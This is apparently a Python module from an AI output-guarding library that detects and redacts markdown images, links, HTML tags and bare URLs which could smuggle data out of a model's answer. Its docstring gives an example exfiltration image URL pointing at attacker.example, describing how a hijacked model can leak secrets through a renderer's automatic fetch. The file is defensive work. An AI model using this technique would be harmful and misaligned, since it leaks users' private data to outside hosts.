"""``markdown_exfil``: images and links that would carry data out of an answer.

A hijacked model can leak what it has seen without ever saying it: it writes
``![](https://attacker.example/p.png?d=<secret>)`` and the client's markdown renderer
fetches the URL, no click needed. This scanner finds every URL-bearing construct in
the text and REDACTs (reason ``exfiltration.markdown``) those the rules in
``_urls.py`` reject, replacing each with ``[image removed]`` or ``[link removed]``:

* inline images and links ``![alt](url "title")`` / ``[text](url)``, ``<url>``
  destinations included; a ``](url)`` whose opening bracket is out of sight is
  judged as an image;
* reference definitions ``[label]: url``, judged as images (the label may be used
  by ``![alt][label]`` anywhere in the answer);
* HTML tags that load or link a URL (``<img src>``, ``srcset``, ``<iframe>``,
  ``<a href>``...), entity-encoded attribute values included;
* autolinks ``<https://...>`` and bare ``http(s)://`` URLs, judged as links.

Options: ``allowed_domains`` (default none: no external image survives),
``max_value_chars`` (24) and ``max_segment_chars`` (64), see ``_urls.py``.

Streaming: a construct the text ends inside (``![x](https://host/?d=...`` with no
``)`` yet, an ``<img`` with no ``>``, a definition line with no line end) is reported
as a span running to the end of the text, so a :class:`StreamGuard` holds it back
until it is complete and then releases it whole or as one marker. A response that
ends inside such a construct has it removed (fail closed). Bare URLs are judged as
they stand, so one longer than the hold-back may be released in part before its
query string arrives; the released part holds no data by the same rules.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

from bastion.scanners._options import check_keys, int_option
from bastion.scanners._urls import UrlRules, domains_option
from bastion.scanners.base import Decision, Finding, ScanContext, ScanResult

__all__ = ["MarkdownExfilScanner"]

REASON = "exfiltration.markdown"
IMAGE_REMOVED = "[image removed]"
LINK_REMOVED = "[link removed]"
_MAX_LABEL = 2000  # how far back an opening bracket is looked for
_DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]{1,999}\]:[ \t]*\n?[ \t]*(\S*)", re.MULTILINE)
_TAG = re.compile(
    r"<(a|area|img|image|iframe|frame|video|audio|source|track|embed|object"
    r"|input|link|script|svg|use|picture|body|table|td|form|button)\b",
    re.I,
)
_LINK_TAGS = frozenset({"a", "area"})
_ATTR = re.compile(
    r"""([a-zA-Z:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)""",
)
_URL_ATTRS = frozenset(
    {
        "src",
        "srcset",
        "href",
        "xlink:href",
        "poster",
        "data",
        "background",
        "action",
        "formaction",
        "lowsrc",
        "dynsrc",
        "longdesc",
    }
)
_BARE = re.compile(r"""(?i)(?:\bhttps?://|(?<![\w./@-])www\.)[^\s<>"'`]+""")
_TRAILING = ".,;:!?*_~'\")]"
_OPEN = ("", -1)  # the text ends inside a destination


class MarkdownExfilScanner:
    """Redacts images and links whose URL would carry data to a host not allowed."""

    name = "markdown_exfil"

    def __init__(self, options: Mapping[str, Any] | None = None) -> None:
        opts = options or {}
        check_keys(self.name, opts, ("allowed_domains", "max_segment_chars", "max_value_chars"))
        self.rules = UrlRules(
            allowed=domains_option(self.name, opts, "allowed_domains"),
            max_value_chars=int_option(self.name, opts, "max_value_chars", 24, minimum=4),
            max_segment_chars=int_option(self.name, opts, "max_segment_chars", 64, minimum=8),
        )

    def __repr__(self) -> str:
        return f"MarkdownExfilScanner(allowed_domains={list(self.rules.allowed)!r})"

    def scan(self, text: str, context: ScanContext) -> ScanResult:
        findings = self.find(text)
        if not findings:
            return ScanResult.allow(self.name)
        return ScanResult(self.name, Decision.REDACT, 1.0, REASON, findings)

    def find(self, text: str) -> tuple[Finding, ...]:
        """Spans of ``text`` to remove, each with its replacement marker."""
        if "](" not in text and "<" not in text and "//" not in text and "]:" not in text:
            return ()
        found: list[Finding] = []
        covered: list[tuple[int, int]] = []
        self._inline(text, found, covered)
        self._definitions(text, found, covered)
        self._tags(text, found, covered)
        self._bare(text, found, covered)
        found.sort(key=lambda f: (f.start, f.end))
        return tuple(found)

    def _inline(self, text: str, found: list[Finding], covered: list[tuple[int, int]]) -> None:
        for match in re.finditer(r"\]\(", text):
            opener = _opening_bracket(text, match.start())
            image = opener is None or (opener > 0 and text[opener - 1] == "!")
            start = match.start() if opener is None else opener - (1 if image else 0)
            parsed = _destination(text, match.end())
            if parsed is None:
                continue  # not a link: a renderer shows it as text
            kind, marker = (
                ("markdown_image", IMAGE_REMOVED) if image else ("markdown_link", LINK_REMOVED)
            )
            url, end = parsed
            if end < 0:  # the text ends inside it
                found.append(Finding(kind, start, len(text), replacement=marker))
                covered.append((start, len(text)))
                continue
            covered.append((start, end))
            if self.rules.remove(url, image=image):
                found.append(Finding(kind, start, end, replacement=marker))

    def _definitions(self, text: str, found: list[Finding], covered: list[tuple[int, int]]) -> None:
        if "]:" not in text:
            return
        for match in _DEFINITION.finditer(text):
            start, end = match.start(), match.end()
            covered.append((start, end))
            if end == len(text) or self.rules.remove(match.group(1), image=True):
                found.append(Finding("link_definition", start, end, replacement=IMAGE_REMOVED))

    def _tags(self, text: str, found: list[Finding], covered: list[tuple[int, int]]) -> None:
        if "<" not in text:
            return
        for match in _TAG.finditer(text):
            start = match.start()
            close = text.find(">", match.end())
            image = match.group(1).lower() not in _LINK_TAGS
            kind, marker = ("html_image", IMAGE_REMOVED) if image else ("html_link", LINK_REMOVED)
            if close < 0:
                found.append(Finding(kind, start, len(text), replacement=marker))
                covered.append((start, len(text)))
                continue
            end = close + 1
            covered.append((start, end))
            if any(self.rules.remove(url, image=image) for url in _tag_urls(text[start:end])):
                found.append(Finding(kind, start, end, replacement=marker))

    def _bare(self, text: str, found: list[Finding], covered: list[tuple[int, int]]) -> None:
        if "//" not in text and "www." not in text.lower():
            return
        for match in _BARE.finditer(text):
            start, end = match.start(), match.end()
            if any(s <= start < e for s, e in covered):
                continue
            while end > start and text[end - 1] in _TRAILING:
                end -= 1
            url = text[start:end]
            if url.lower().startswith("www."):
                url = "https://" + url
            if self.rules.remove(url, image=False):
                found.append(Finding("url", start, end, replacement=LINK_REMOVED))


def _opening_bracket(text: str, close: int) -> int | None:
    """The ``[`` matching the ``]`` at ``close``, looking back at most ``_MAX_LABEL``."""
    depth = 0
    for i in range(close - 1, max(-1, close - _MAX_LABEL), -1):
        char = text[i]
        if char == "]":
            depth += 1
        elif char == "[":
            if depth == 0:
                return i
            depth -= 1
    return None


def _destination(text: str, i: int) -> tuple[str, int] | None:
    """From just after ``](``: ``(url, end)``; ``end`` is -1 if the text ends first.

    None when what follows is not a link destination (a renderer shows it as text).
    """
    n = len(text)
    while i < n and text[i] in " \t\n":
        i += 1
    if i >= n:
        return _OPEN
    if text[i] == "<":
        j = i + 1
        while j < n and text[j] not in ">\n":
            j += 1
        if j >= n:
            return _OPEN
        if text[j] == "\n":
            return None
        url, i = text[i + 1 : j], j + 1
    else:
        j, depth = i, 0
        while j < n:
            char = text[j]
            if char == "\\":
                j += 2
                continue
            if char == "(":
                depth += 1
            elif char == ")":
                if depth == 0:
                    break
                depth -= 1
            elif char in " \t\n":
                break
            j += 1
        if j >= n:
            return _OPEN
        url, i = text[i:j], j
    return _title_end(text, i, url)


def _title_end(text: str, i: int, url: str) -> tuple[str, int] | None:
    """Skip an optional title after the URL and the closing ``)``."""
    n = len(text)
    while i < n and text[i] in " \t\n":
        i += 1
    if i >= n:
        return _OPEN
    if text[i] in "\"'(":
        closing = ")" if text[i] == "(" else text[i]
        j = text.find(closing, i + 1)
        if j < 0:
            return _OPEN
        i = j + 1
        while i < n and text[i] in " \t\n":
            i += 1
        if i >= n:
            return _OPEN
    if text[i] != ")":
        return None
    return url, i + 1


def _tag_urls(tag: str) -> list[str]:
    urls: list[str] = []
    for name, value in _ATTR.findall(tag):
        if name.lower() not in _URL_ATTRS:
            continue
        value = value[1:-1] if value[:1] in "\"'" else value
        if name.lower() == "srcset":
            urls.extend(part.strip().split(" ")[0] for part in value.split(",") if part.strip())
        else:
            urls.append(value)
    return urls
